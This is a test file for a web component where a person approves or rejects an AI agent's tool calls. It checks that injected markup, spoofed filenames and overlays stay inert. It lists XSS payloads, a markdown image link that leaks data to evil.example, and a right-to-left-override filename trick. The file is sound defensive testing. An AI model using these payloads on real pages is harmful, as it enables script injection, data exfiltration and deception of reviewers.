// What a request looks like, whatever its payload says: text stays text, nothing hides, nothing covers, everything can be reached.

import assert from "node:assert/strict";
import { test } from "node:test";

import { sharedDesk } from "./elements/owner.js";
import { until } from "./harness/until.js";

const shared = sharedDesk();
const APPROVE = "[part~=approve]";

const MARKUP = [
  "<img src=x onerror=pwn()>", "<iframe srcdoc='<script>pwn()</script>'>", "<style>*{display:none}</style>", "<svg onload=pwn()>", "<form action=https://evil.example>",
  "<base href=https://evil.example/>", "<meta http-equiv=refresh content=0>", "<div style='position:fixed;inset:0'>x</div>", "</dialog></section>", "![](https://evil.example/?d=x)",
  "[x](javascript:pwn())", "https://evil.example/", "data:text/html,<script>pwn()</script>",
];

/** A native request that says one text in every place it can. @param {string} text */
const everywhere = (text) => ({
  halt: 1, kind: "test", title: text.slice(0, 100), summary: text, why: text, consequences: [text], context: [{ label: text.slice(0, 100), value: text }], extra: { [text]: text },
  action: {
    id: "a1", name: text.slice(0, 100), args: { [text]: text, list: [text] }, description: text, before: { [text]: `${text}!` },
    schema: { type: "object", properties: { [text]: { type: "string", title: text, description: text } } },
  },
});

test("SR-26 SR-27 SR-28 SR-37 markup, links and chrome in any place of a payload are drawn as text and do nothing", async () => {
  const form = await shared.desk.page();
  const requests = /** @type {string[]} */ ([]);
  form.page.on("request", (request) => requests.push(request.url()));
  await form.run("window.pwn = () => { window.pwned = true; }");
  await form.mount();
  const before = await form.run("getComputedStyle(document.body).backgroundColor");
  for (const text of MARKUP) {
    await form.run("app.questions = []");
    await form.ask(everywhere(text), { thread: text });
    await form.run(`el.request = app.questions[0]`);
    await until("it is drawn", async () => (await form.run("el.shadowRoot.querySelector('#title')?.textContent")) === text.slice(0, 100));
    const found = await form.run(`[...el.shadowRoot.querySelectorAll("img, iframe, form, base, meta, a, script, object, embed, dialog, svg[onload], [style], [href], [src]")].map(({ outerHTML }) => outerHTML)`);
    assert.deepEqual(found, [], text);
    assert.ok((await form.text()).includes(text), text);
    const attributes = await form.run(`[...el.shadowRoot.querySelectorAll("*")].flatMap((one) => [...one.attributes]).filter(({ value }) => value.includes(${JSON.stringify(text)})).map(({ name }) => name)`);
    assert.deepEqual(attributes, [], text);
  }
  await form.run("app.questions = []");
  await form.run("app.ask(samples.MAIL)");
  await form.run("el.request = app.questions[0]");
  await until("the editor can open", async () => (await form.count("[part~=edit]")) === 1);
  assert.deepEqual([await form.run("window.pwned === true"), await form.run("getComputedStyle(document.body).backgroundColor"), requests.filter((url) => url.includes("evil"))], [false, before, []]);
  await form.close();
});

test("SR-26 markup in an edit, in its difference, in a reason, and in the error of a run stays text", async () => {
  const form = await shared.desk.show([{ ask: { halt: 1, kind: "t", title: "t", action: { id: "a1", name: "tool", args: { [MARKUP[0]]: "x" } } } }]);
  await form.run("window.pwn = () => { window.pwned = true; }");
  await form.edit();
  await form.type(MARKUP[0], MARKUP[1]);
  await form.press("[data-forward]");
  await form.reach("reviewing");
  assert.ok((await form.text()).includes(MARKUP[1]));
  await form.run(`app.run = async () => { throw new Error(${JSON.stringify(MARKUP[0])}); }`);
  await form.press(APPROVE);
  await form.reach("done");
  assert.deepEqual([await form.count("img, iframe"), await form.run("window.pwned === true")], [0, false]);
  assert.ok((await form.text(".outcome")).includes(MARKUP[0]));
  await form.close();
});

test("SR-31 a direction override is a badge, and what follows stands in code-point order", async () => {
  const form = await shared.desk.show([{ ask: { halt: 1, kind: "t", title: "t", action: { id: "a1", name: "tool", args: { file: "invoice\u202Efdp.exe" } } } }]);
  assert.equal((await form.text(".value")).replace(/\s+/g, ""), "\"invoiceU+202Efdp.exe\"");
  const places = await (await form.$(".value")).evaluate((value) => {
    const range = document.createRange();
    return [...value.childNodes].map((node) => {
      range.selectNodeContents(node);
      return range.getBoundingClientRect().left;
    });
  });
  assert.deepEqual(places, places.toSorted((a, b) => a - b));
  assert.match(await form.text("[part~=notice]"), /invisible or direction-changing/);
  await form.close();
});

test("SR-36 5 and \"5\", true and \"true\", null and \"null\" are told apart on the screen", async () => {
  const form = await shared.desk.show([{ ask: { halt: 1, kind: "t", title: "t", action: { id: "a1", name: "tool", args: { a: 5, b: "5", c: true, d: "true", e: null, f: "null", g: "", h: " a ", i: "2001-05-01" } } } }]);
  const rows = (await form.texts("[part~=arg-row]")).map((text) => text.replace(/\s+/g, " ").replace(/ Copy$/, ""));
  assert.deepEqual(rows.map((text) => text.slice(2)), [
    "number 5", "text, 1 character \"5\"", "yes/no true", "text, 4 characters \"true\"", "null null", "text, 4 characters \"null\"",
    "text, 0 characters empty text \"\"", "text, 3 characters spaces at an edge \" a \"", "text, 10 characters \"2001-05-01\"",
  ]);
  await form.close();
});

test("SR-35 tool and arguments come before the agent's words, which are labelled as not checked", async () => {
  const form = await shared.desk.show([{ ask: "DROP" }]);
  const text = await form.text();
  assert.ok(text.indexOf("delete_database") < text.indexOf("Exact arguments") && text.indexOf("Exact arguments") < text.indexOf("What the agent says (not checked)"));
  assert.ok(text.indexOf("What the agent says (not checked)") < text.indexOf("Routine cleanup"));
  await form.close();
});

test("A-47 a slotted element cannot cover the arguments or Approve", async () => {
  const form = await shared.desk.show([{ ask: "MAIL" }]);
  await form.run(`for (const name of ["heading-extra", "evidence", "help", "footer-note"]) { const cover = document.createElement("div"); cover.slot = name; cover.className = "cover"; cover.textContent = "APPROVED"; el.append(cover); }
    const sheet = new CSSStyleSheet(); sheet.replaceSync(".cover { position: fixed; inset: 0; z-index: 2147483647; background: red; }"); document.adoptedStyleSheets = [sheet];`);
  for (const selector of [APPROVE, "[part~=arg-row]", "#title"]) {
    const { x, y } = await form.at(selector);
    assert.equal(await form.run(`document.elementFromPoint(${x}, ${y}).className`), "", selector);
  }
  await form.close();
});

test("A-48 SR-29 approve, edit, reject and the inbox under the strict headers: no violation", async () => {
  const form = await shared.desk.show([{ ask: "MAIL" }, { ask: "FLIGHT", with: { thread: "t2" } }, { ask: "DROP", with: { thread: "t3" } }], { element: "halt-inbox" });
  for (const [i, verb] of ["approve", "reject"].entries()) {
    await form.press(".inbox-row");
    await form.reach("pending");
    while ((await form.count(".open")) > 0) await form.press(".open");
    await form.press(`[part~=${verb}]`);
    await until("it goes on", async () => (await form.state()) !== "pending");
    if ((await form.state()) === "confirming") await until("it is sent", async () => (await form.state()) === "done" || (await form.press(APPROVE), false));
    await form.reach("done");
    await until("the row is gone", async () => (await form.count(".inbox-row")) === 2 - i);
  }
  assert.deepEqual(await form.run("violations"), []);
  await form.close();
});

test("A-49 a property set before the class is known is honoured; attributes decide nothing", async () => {
  const form = await shared.desk.page();
  await form.ask("MAIL");
  await form.run(`{ const el = document.createElement("not-yet"); el.app = app; el.messages = { "reject": "Refuse" }; document.querySelector("main").append(el); window.el = el; }`);
  await form.run("customElements.get('halt-approval').define === undefined ? 0 : void class Late {}");
  await form.run("import('/www/elements.js').then(({ HaltApproval }) => customElements.define('not-yet', class extends HaltApproval {}))");
  await until("it is drawn", () => form.run("el.state === 'pending'"));
  assert.equal(await form.text("[part~=reject]"), "Refuse");
  for (const [name, value] of [["thread", "x"], ["verdict", "approve"], ["thread", "booking-42"], ["decided", "true"], ["readonly", ""]]) await form.run(`el.setAttribute("${name}", "${value}")`);
  await form.idle();
  await until("it is read again", () => form.run("el.state === 'pending'"));
  assert.deepEqual([await form.decisions(), await form.count(".decision")], [0, 0]);
  await form.close();
});

test("A-52 every event is kebab-case, bubbles, is composed and has a frozen detail", async () => {
  const form = await shared.desk.show([{ ask: "MAIL" }]);
  await form.edit();
  await form.type("subject", "x");
  await form.page.keyboard.press("Escape");
  await form.press(".leave");
  await form.press(APPROVE);
  await form.reach("done");
  const events = await form.run("events");
  assert.deepEqual(
    new Set(events.map((/** @type {any} */ event) => event.type)),
    new Set(["halt-before-decide", "halt-decided", "halt-draft", "halt-leave", "halt-state"]),
  );
  assert.ok(events.every((/** @type {any} */ event) => /^halt(-[a-z]+)+$/.test(event.type) && event.bubbles && event.composed && event.frozen));
  const states = events.filter((/** @type {any} */ event) => event.type === "halt-state").map((/** @type {any} */ event) => event.detail.to);
  assert.deepEqual(states, ["pending", "editing", "pending", "submitting", "done"]);
  await form.close();
});

for (const size of [16, 32]) {
  test(`A-54 at 320 × 568 and ${size} px text every button can be reached, and the focus is never under the footer`, async () => {
    const form = await shared.desk.page();
    await form.page.setViewport({ width: 320, height: 568 });
    await form.run(`{ const sheet = new CSSStyleSheet(); sheet.replaceSync("html { font-size: ${size}px; }"); document.adoptedStyleSheets = [sheet]; }`);
    await form.ask("FLIGHT");
    await form.mount();
    assert.ok(await form.run("document.documentElement.scrollWidth <= innerWidth"), "no sideways scrolling");
    await form.page.focus("#elsewhere");
    await form.run("scrollTo(0, 0)");
    for (let i = 0; i < 24; i += 1) {
      await form.page.keyboard.press("Tab");
      await form.idle();
      const hidden = await form.run(`{ let one = document.activeElement; while (one?.shadowRoot?.activeElement) one = one.shadowRoot.activeElement;
        const box = one.getBoundingClientRect(); const x = box.left + box.width / 2, y = box.top + Math.min(box.height / 2, 10);
        let top = document.elementFromPoint(x, y); while (top?.shadowRoot) { const inner = top.shadowRoot.elementFromPoint(x, y); if (!inner || inner === top) break; top = inner; }
        one === document.body || one === document.activeElement || one.contains(top) || top?.contains(one) ? "" : one.textContent + " under " + top?.className }`);
      assert.equal(hidden, "");
    }
    for (const selector of ["[part~=reject]", APPROVE, "[part~=stop]", ".leave"]) {
      const { x, y } = await form.at(selector);
      assert.ok(x > 0 && x < 320 && y > 0 && y < 568, selector);
    }
    await form.run("scrollTo(0, 0)");
    const kept = await (await form.$(".footer")).evaluate((element) => (getComputedStyle(element).position === "sticky" ? element.getBoundingClientRect().height : 0));
    assert.ok(kept <= 568 * 0.4, `the footer takes ${kept}`);
    await form.close();
  });
}

for (const width of [390, 1280]) {
  test(`A-55 at ${width} px decision buttons are at least 44 × 44, other targets 24 × 24`, async () => {
    const form = await shared.desk.page();
    await form.page.setViewport({ width, height: 900 });
    await form.ask("FLIGHT");
    await form.ask("REFUNDS", { thread: "second" });
    await form.mount();
    const small = () => form.run(`[...el.shadowRoot.querySelectorAll("button, input, textarea, select, summary, label:has(input)")].filter((one) => one.checkVisibility() && !one.matches(".calendar, label input")).flatMap((one) => {
      const { width, height } = one.getBoundingClientRect(); const least = one.matches(".decision") ? 44 : 24;
      return width < least || height < least ? [one.className + " " + one.textContent + " " + Math.round(width) + "x" + Math.round(height)] : []; })`);
    assert.deepEqual(await small(), []);
    await form.edit();
    assert.deepEqual(await small(), []);
    await form.run("el.thread = 'second'");
    await until("the second is shown", async () => (await form.text()).includes("2 actions"));
    assert.deepEqual(await small(), []);
    await form.close();
  });
}

test("A-58 a catalog replaces single texts; payload text that equals a key is shown as it is", async () => {
  const form = await shared.desk.page();
  await form.ask({ halt: 1, kind: "t", title: "reject", action: { id: "a1", name: "tool", args: { a: "risk.high" } } });
  await form.run("window.el = Object.assign(document.createElement('halt-approval'), { app, messages: { 'reject': 'Ablehnen', 'args.title': 'Genaue Werte' } }); document.querySelector('main').append(el)");
  await until("it is drawn", () => form.run("el.state === 'pending'"));
  const text = await form.text();
  for (const part of ["Ablehnen", "Genaue Werte", "\"risk.high\"", "Approve tool"]) assert.ok(text.includes(part), part);
  assert.ok((await form.texts(".said .value")).includes("reject"));
  await form.close();
});

test("A-59 reduced motion: no animation runs in any state", async () => {
  const form = await shared.desk.page();
  await form.tab.dress([{ name: "prefers-reduced-motion", value: "reduce" }]);
  await form.ask("MAIL");
  await form.mount();
  const running = () => form.run("document.getAnimations().length + el.shadowRoot.getAnimations().length");
  assert.equal(await running(), 0);
  await form.run("app.claim = new Promise(() => {}); undefined");
  await form.press(APPROVE);
  await form.reach("submitting");
  assert.equal(await running(), 0);
  await form.close();
});
